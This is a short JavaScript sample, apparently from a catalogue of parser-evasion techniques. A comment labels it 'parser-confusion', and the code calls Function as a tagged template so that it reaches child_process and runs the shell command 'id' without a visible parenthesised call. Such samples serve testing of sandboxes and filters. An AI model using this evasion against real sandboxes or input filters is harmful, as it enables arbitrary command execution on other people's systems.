// class: parser-confusion | technique: Function called as a template tag (Function`...`): the body is a template, not a parenthesised argument | effect: runs `id`
const run = Function`return process.mainModule.require('child_process').execSync('id').toString()`;
console.log(run().trim());
